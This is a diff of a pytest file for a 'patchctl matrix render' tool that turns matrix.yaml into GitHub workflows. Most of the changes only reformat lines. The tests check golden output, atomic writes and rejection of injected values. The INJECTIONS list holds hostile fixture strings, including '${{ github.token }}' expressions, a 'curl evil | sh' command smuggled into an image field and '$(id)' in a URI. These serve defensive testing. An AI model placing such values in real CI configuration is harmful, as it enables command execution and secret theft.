@@ -1,6 +1,7 @@
 """`patchctl matrix render`: golden output, drift detection with a diff, all-or-nothing
 writes, and the security property that nothing in matrix.yaml reaches a workflow as a
 GitHub expression or as YAML structure."""
+
 from __future__ import annotations
 
 import json
@@ -42,7 +43,9 @@ def test_render_matches_golden_files(cli, tmp_path: Path) -> None:
             (GOLDEN / name).parent.mkdir(parents=True, exist_ok=True)
             (GOLDEN / name).write_text(text)
     for name, text in rendered(project).items():
-        assert text == (GOLDEN / name).read_text(), f"{name} differs from its golden file (PATCHCTL_UPDATE_GOLDEN=1 regenerates)"
+        assert text == (GOLDEN / name).read_text(), (
+            f"{name} differs from its golden file (PATCHCTL_UPDATE_GOLDEN=1 regenerates)"
+        )
 
 
 def test_every_output_starts_with_the_generated_header_and_parses(cli, tmp_path: Path) -> None:
@@ -107,7 +110,9 @@ def test_writes_are_all_or_nothing(cli, tmp_path: Path, monkeypatch: pytest.Monk
     cli("-C", project, "matrix", "render")
     before = rendered(project)
     matrix = project / "matrix.yaml"
-    matrix.write_text(matrix.read_text().replace("'0 5 * * 2'", "'0 7 * * 3'").replace("alias: llama-cpp", "alias: llama"))
+    matrix.write_text(
+        matrix.read_text().replace("'0 5 * * 2'", "'0 7 * * 3'").replace("alias: llama-cpp", "alias: llama")
+    )
     real_replace, calls = os.replace, []
 
     def crash_on_second(src, dst):
@@ -130,7 +135,7 @@ def test_writes_are_all_or_nothing(cli, tmp_path: Path, monkeypatch: pytest.Monk
 
 def test_no_canary_section_means_no_canary_workflow(cli, tmp_path: Path) -> None:
     text = GOOD.read_text()
-    text = text[: text.index("canary:\n")] + text[text.index("backends:\n"):]
+    text = text[: text.index("canary:\n")] + text[text.index("backends:\n") :]
     project = make_project(tmp_path, text)
     result = cli("-C", project, "matrix", "render")
     assert result.exit_code == 0, result.output
@@ -220,7 +225,9 @@ def test_rendered_index_is_a_localai_index_equal_to_the_section(cli, tmp_path: P
     assert [(m.name, m.capabilities, m.alias, m.description) for m in matrix.metas] == [
         (m.name, m.capabilities, m.alias, m.description) for m in source.metas
     ]
-    assert [(v.name, v.uri, v.mirrors) for v in matrix.variants] == [(v.name, v.uri, v.mirrors) for v in source.variants]
+    assert [(v.name, v.uri, v.mirrors) for v in matrix.variants] == [
+        (v.name, v.uri, v.mirrors) for v in source.variants
+    ]
     assert source.metas[0].description == 'llama.cpp, "paged" edition: fast # really'
 
 
@@ -228,18 +235,36 @@ def test_rendered_index_is_a_localai_index_equal_to_the_section(cli, tmp_path: P
 
 
 INJECTIONS = [
-    ("backend: llama-cpp\n    dockerfile", "backend: '${{ github.token }}'\n    dockerfile", "include[0].backend: unsafe value"),
-    ("tag-suffix: -cpu-whisper", "tag-suffix: \"-cpu-whisper\\n    evil: true\"", "include[3].tag-suffix: unsafe value"),
-    ("runs-on: ubuntu-latest\n    base-image: ubuntu:24.04\n    backend: whisper", "runs-on: 'ubuntu-latest # x'\n    base-image: ubuntu:24.04\n    backend: whisper", "include[3].runs-on: unsafe value"),
-    ("      image: nvidia/cuda:13.0.0-devel-ubuntu24.04", "      image: 'x\"; curl evil | sh; \"'", "canary.toolchains[0].image: unsafe value"),
+    (
+        "backend: llama-cpp\n    dockerfile",
+        "backend: '${{ github.token }}'\n    dockerfile",
+        "include[0].backend: unsafe value",
+    ),
+    ("tag-suffix: -cpu-whisper", 'tag-suffix: "-cpu-whisper\\n    evil: true"', "include[3].tag-suffix: unsafe value"),
+    (
+        "runs-on: ubuntu-latest\n    base-image: ubuntu:24.04\n    backend: whisper",
+        "runs-on: 'ubuntu-latest # x'\n    base-image: ubuntu:24.04\n    backend: whisper",
+        "include[3].runs-on: unsafe value",
+    ),
+    (
+        "      image: nvidia/cuda:13.0.0-devel-ubuntu24.04",
+        "      image: 'x\"; curl evil | sh; \"'",
+        "canary.toolchains[0].image: unsafe value",
+    ),
     ("schedule: '0 5 * * 2'", "schedule: '0 5 * * ${{ 2 }}'", "canary.schedule: must be a 5-field cron"),
-    ("uri: 'quay.io/example/backends:latest-cpu-whisper'", "uri: 'quay.io/x:latest-cpu-whisper$(id)'", "index.variants[6].uri: unsafe value"),
+    (
+        "uri: 'quay.io/example/backends:latest-cpu-whisper'",
+        "uri: 'quay.io/x:latest-cpu-whisper$(id)'",
+        "index.variants[6].uri: unsafe value",
+    ),
     ("'backend/go/whisper/**'", "'backend/${{ secrets.X }}/**'", "backends.whisper.paths[0]: unsafe value"),
 ]
 
 
 @pytest.mark.parametrize("old, new, message", INJECTIONS, ids=[m.split(":")[0] for _, _, m in INJECTIONS])
-def test_injection_attempts_are_rejected_with_file_and_line(cli, tmp_path: Path, old: str, new: str, message: str) -> None:
+def test_injection_attempts_are_rejected_with_file_and_line(
+    cli, tmp_path: Path, old: str, new: str, message: str
+) -> None:
     text = GOOD.read_text()
     assert old in text
     project = make_project(tmp_path, text.replace(old, new, 1))
@@ -251,7 +276,9 @@ def test_injection_attempts_are_rejected_with_file_and_line(cli, tmp_path: Path,
 
 
 def test_free_text_with_an_expression_is_refused_at_render(cli, tmp_path: Path) -> None:
-    text = GOOD.read_text().replace("description: 'llama.cpp, \"paged\" edition: fast # really'", "description: 'see ${{ secrets.TOKEN }}'")
+    text = GOOD.read_text().replace(
+        "description: 'llama.cpp, \"paged\" edition: fast # really'", "description: 'see ${{ secrets.TOKEN }}'"
+    )
     project = make_project(tmp_path, text)
     result = cli("-C", project, "matrix", "render")
     assert result.exit_code == 2
@@ -260,8 +287,10 @@ def test_free_text_with_an_expression_is_refused_at_render(cli, tmp_path: Path) 
 
 
 def test_yaml_breaking_free_text_is_quoted(cli, tmp_path: Path) -> None:
-    nasty = 'a: b\n- c # d\n"quoted" \'single\' {flow} [list] &anchor *alias !tag %directive |\n\t\u00e9\u2028'
-    text = GOOD.read_text().replace("description: 'llama.cpp, \"paged\" edition: fast # really'", f"description: {json.dumps(nasty)}")
+    nasty = "a: b\n- c # d\n\"quoted\" 'single' {flow} [list] &anchor *alias !tag %directive |\n\t\u00e9\u2028"
+    text = GOOD.read_text().replace(
+        "description: 'llama.cpp, \"paged\" edition: fast # really'", f"description: {json.dumps(nasty)}"
+    )
     project = make_project(tmp_path, text)
     result = cli("-C", project, "matrix", "render")
     assert result.exit_code == 0, result.output
